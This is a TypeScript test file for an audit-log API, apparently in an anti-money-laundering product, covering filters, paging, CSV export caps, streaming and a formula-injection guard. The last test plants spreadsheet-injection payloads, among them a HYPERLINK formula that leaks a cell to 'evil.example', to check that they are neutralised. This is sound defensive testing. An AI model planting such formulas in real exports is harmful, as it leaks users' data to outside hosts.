import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import Papa from "papaparse";
import { auditExportPages, planAuditExport } from "@/audit/list";
import type { AuditEntry } from "@/audit/rows";
import type { AppContext, CallMeta } from "@/context";
import { issueApiKey, revokeApiKey } from "@/tenants/keys";
import { setQuota } from "@/tenants/quota";
import { call, json } from "../helpers/api";
import { servedPaths } from "../helpers/openapi";
import { startTestServer, type TestServer } from "../helpers/server";
import { makeTenant } from "../helpers/tenants";

/** GET /v1/audit: filters, paging newest first, and the CSV export with its cap and formula guard. */
let server: TestServer;
let capped: TestServer;
const meta: CallMeta = { actor: { type: "system", id: "list-test" } };

interface AuditPage {
  items: AuditEntry[];
  total: number;
  skip: number;
  take: number;
}

beforeAll(async () => {
  [server, capped] = await Promise.all([startTestServer(), startTestServer({ env: { AML_AUDIT_EXPORT_CAP: "3" } })]);
});
afterAll(async () => {
  await Promise.all([server.close(), capped.close()]);
});

const at = (iso: string): AppContext => ({ ...server.ctx, clock: { now: () => new Date(iso) } });

async function page(apiKey: string, query: string, on: TestServer = server): Promise<AuditPage> {
  const res = await call(on.url, `/v1/audit${query}`, { key: apiKey });
  expect(res.status).toBe(200);
  return json<AuditPage>(res);
}

describe("listing", () => {
  test("newest first, take defaults to 50 and skip pages on through the rest", async () => {
    const { tenant, apiKey } = makeTenant(server.ctx);
    for (let i = 1; i <= 58; i++) setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: i }, meta);
    const first = await page(apiKey, "");
    expect(first).toMatchObject({ total: 60, skip: 0, take: 50 });
    expect(first.items.length).toBe(50);
    expect(first.items.map((e) => e.sequence)).toEqual(Array.from({ length: 50 }, (_, i) => 60 - i));
    expect(first.items[0]?.details).toEqual({ previous: 57, monthlyScreeningQuota: 58 });
    const rest = await page(apiKey, "?skip=50");
    expect(rest.items.map((e) => e.sequence)).toEqual([10, 9, 8, 7, 6, 5, 4, 3, 2, 1]);
    const small = await page(apiKey, "?skip=3&take=2");
    expect(small.items.map((e) => e.sequence)).toEqual([57, 56]);
    expect(small.total).toBe(60);
  });

  test("action and targetType filter exactly, and the total follows the filter", async () => {
    const { tenant, apiKey, apiKeyId } = makeTenant(server.ctx);
    const second = issueApiKey(server.ctx, { tenant: tenant.id, label: "second" }, meta);
    revokeApiKey(server.ctx, { tenant: tenant.id, keyId: second.key.keyId }, meta);
    setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: 3 }, meta);

    const issues = await page(apiKey, "?action=api_key.issue");
    expect(issues.total).toBe(2);
    expect(issues.items.map((e) => e.targetId)).toEqual([second.key.keyId, apiKeyId]);
    const keys = await page(apiKey, "?targetType=api_key");
    expect(keys.items.map((e) => e.action)).toEqual(["api_key.revoke", "api_key.issue", "api_key.issue"]);
    const onTenant = await page(apiKey, "?targetType=tenant");
    expect(onTenant.items.map((e) => e.action)).toEqual(["quota.set", "tenant.create"]);
    expect((await page(apiKey, "?action=api_key")).total).toBe(0);
    expect((await page(apiKey, "?action=api_key.revoke&targetType=tenant")).total).toBe(0);
  });

  test("from and to are inclusive instants and honour a UTC offset", async () => {
    const { tenant, apiKey } = makeTenant(at("2026-01-01T00:00:00.000Z"));
    setQuota(at("2026-01-10T00:00:00.000Z"), tenant.id, { monthlyScreeningQuota: 10 }, meta);
    setQuota(at("2026-01-20T00:00:00.000Z"), tenant.id, { monthlyScreeningQuota: 20 }, meta);
    setQuota(at("2026-01-30T00:00:00.000Z"), tenant.id, { monthlyScreeningQuota: 30 }, meta);
    const quotas = (p: AuditPage) => p.items.map((e) => (e.details as { monthlyScreeningQuota: number }).monthlyScreeningQuota);

    expect(quotas(await page(apiKey, "?action=quota.set&from=2026-01-10T00:00:00Z&to=2026-01-20T00:00:00Z"))).toEqual([20, 10]);
    expect(quotas(await page(apiKey, "?action=quota.set&from=2026-01-10T00:00:00.001Z"))).toEqual([30, 20]);
    expect(quotas(await page(apiKey, "?action=quota.set&to=2026-01-19T23:59:59.999Z"))).toEqual([10]);
    // 01:00 at +01:00 is midnight UTC: the same instant as the second entry.
    expect(quotas(await page(apiKey, "?action=quota.set&from=2026-01-20T01:00:00%2B01:00"))).toEqual([30, 20]);
    expect((await page(apiKey, "?from=2026-02-01T00:00:00Z")).total).toBe(0);
    // from = to is one instant; a to before from is a mistake, refused rather than answered with nothing.
    expect(quotas(await page(apiKey, "?action=quota.set&from=2026-01-20T00:00:00Z&to=2026-01-20T01:00:00%2B01:00"))).toEqual([20]);
    for (const format of ["", "&format=csv"]) {
      const backwards = await call(server.url, `/v1/audit?from=2026-01-20T00:00:00Z&to=2026-01-10T00:00:00Z${format}`, { key: apiKey });
      expect(backwards.status).toBe(400);
      expect((await json<{ code: string; errors: unknown[] }>(backwards)).errors).toEqual([{ field: "query.to", message: "must not be before from" }]);
    }
  });
});

describe("CSV export", () => {
  const COLUMNS = ["id", "sequence", "at", "action", "targetType", "targetId", "actorType", "actorId", "correlationId", "details", "prevHash", "hash"];

  function parse(text: string): Array<Record<string, string>> {
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(COLUMNS);
    return parsed.data;
  }

  test("a cap of 3 (AML_AUDIT_EXPORT_CAP) gives exactly 3 rows, newest first, and X-Export-Truncated: true", async () => {
    const { tenant, apiKey } = makeTenant(capped.ctx);
    for (const q of [1, 2, 3]) setQuota(capped.ctx, tenant.id, { monthlyScreeningQuota: q }, meta);
    const res = await call(capped.url, "/v1/audit?format=csv", { key: apiKey });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get("x-export-truncated")).toBe("true");
    expect(res.headers.get("x-export-row-count")).toBe("3");
    expect(parse(res.text).map((r) => r.sequence)).toEqual(["5", "4", "3"]);
    // The reference says the cap this appliance runs with, not the default.
    const described = (await servedPaths(capped.url))["/v1/audit"]?.get?.description ?? "";
    expect(described).toContain("returns a CSV download of up to 3 entries (this appliance's auditExportCap");
    expect((await servedPaths(server.url))["/v1/audit"]?.get?.description).toContain("returns a CSV download of up to 50,000 entries");
  });

  test("no truncation header when the filtered entries fit, including exactly at the cap", async () => {
    const { tenant, apiKey } = makeTenant(capped.ctx);
    for (const q of [1, 2, 3]) setQuota(capped.ctx, tenant.id, { monthlyScreeningQuota: q }, meta);
    const exact = await call(capped.url, "/v1/audit?format=csv&action=quota.set", { key: apiKey });
    expect(exact.headers.get("x-export-truncated")).toBeNull();
    expect(parse(exact.text).map((r) => r.action)).toEqual(["quota.set", "quota.set", "quota.set"]);
    const fewer = await call(capped.url, "/v1/audit?format=csv&targetType=api_key", { key: apiKey });
    expect(fewer.headers.get("x-export-truncated")).toBeNull();
    expect(parse(fewer.text).length).toBe(1);
  });

  test("a filter that matches nothing: the header line alone, X-Export-Row-Count 0", async () => {
    const { apiKey } = makeTenant(server.ctx);
    const res = await call(server.url, "/v1/audit?format=csv&action=no.such.action", { key: apiKey });
    expect(res.status).toBe(200);
    expect(res.headers.get("x-export-row-count")).toBe("0");
    expect(res.text).toBe(`${COLUMNS.join(",")}\r\n`);
  });

  test("an export of more entries than a page (500) is streamed whole: every entry once, newest first, as the JSON list has them", async () => {
    const { tenant, apiKey } = makeTenant(server.ctx);
    for (let q = 1; q <= 1_203; q++) setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: q }, meta);
    const total = (await page(apiKey, "?take=1")).total;
    expect(total).toBeGreaterThan(1_203);
    const res = await call(server.url, "/v1/audit?format=csv", { key: apiKey });
    expect(res.headers.get("x-export-row-count")).toBe(String(total));
    expect(res.headers.get("x-export-truncated")).toBeNull();
    const rows = parse(res.text);
    expect(rows.map((r) => Number(r.sequence))).toEqual(Array.from({ length: total }, (_, i) => total - i));
    const listed: AuditEntry[] = [];
    for (let skip = 0; skip < total; skip += 500) listed.push(...(await page(apiKey, `?take=500&skip=${skip}`)).items);
    expect(rows.map((r) => [r.id, r.hash, JSON.parse(r.details ?? "null")])).toEqual(listed.map((e) => [e.id, e.hash, e.details]));
  });

  test("entries written while an export streams are not in it: it holds what the chain held when it was planned", () => {
    const { tenant } = makeTenant(server.ctx);
    for (let q = 1; q <= 1_100; q++) setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: q }, meta);
    const plan = planAuditExport(server.ctx.db, tenant.id, {}, 50_000);
    // Written after the plan (its headers sent), before the first page is read, and between pages,
    // as screens committing meanwhile would be.
    for (let q = 5_000; q < 5_005; q++) setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: q }, meta);
    const pages = auditExportPages(server.ctx.db, tenant.id, {}, plan, 500);
    const first = pages.next().value ?? [];
    for (let q = 5_005; q < 5_010; q++) setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: q }, meta);
    const entries = [...first, ...[...pages].flat()];
    expect(entries.length).toBe(plan.rows);
    expect(entries[0]?.sequence).toBe(plan.throughSeq);
    expect(entries.map((e) => e.sequence)).toEqual(Array.from({ length: plan.rows }, (_, i) => plan.throughSeq - i));
    expect(entries.some((e) => /50(0[0-9])/.test(JSON.stringify(e.details)))).toBe(false);
  });

  test("the export carries the same entries as the JSON list", async () => {
    const { apiKey } = makeTenant(server.ctx);
    const rows = parse((await call(server.url, "/v1/audit?format=csv", { key: apiKey })).text);
    const items = (await page(apiKey, "")).items;
    expect(rows.map((r) => [r.id, Number(r.sequence), r.action, r.hash])).toEqual(items.map((e) => [e.id, e.sequence, e.action, e.hash]));
    expect(JSON.parse(rows[0]?.details ?? "")).toEqual(items[0]?.details);
  });

  test("cells a spreadsheet would run as formulas arrive neutralised with a leading quote", async () => {
    const { tenant, apiKey } = makeTenant(server.ctx);
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const hostile: CallMeta = { actor: { type: "oidc", id: hyperlink }, correlationId: "@SUM(1+1)" };
    const issued = issueApiKey(server.ctx, { tenant: tenant.id, label: "=HYPERLINK(\"http://evil.example\")" }, hostile);
    setQuota(server.ctx, tenant.id, { monthlyScreeningQuota: 5 }, { actor: { type: "oidc", id: "+1-2" }, correlationId: "-3+4" });

    const rows = parse((await call(server.url, "/v1/audit?format=csv", { key: apiKey })).text);
    const issueRow = rows.find((r) => r.targetId === issued.key.keyId);
    expect(issueRow?.actorId).toBe(`'${hyperlink}`);
    expect(issueRow?.correlationId).toBe("'@SUM(1+1)");
    expect((JSON.parse(issueRow?.details ?? "{}") as { label: string }).label).toBe('=HYPERLINK("http://evil.example")');
    const quotaRow = rows.find((r) => r.action === "quota.set");
    expect(quotaRow?.actorId).toBe("'+1-2");
    expect(quotaRow?.correlationId).toBe("'-3+4");
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
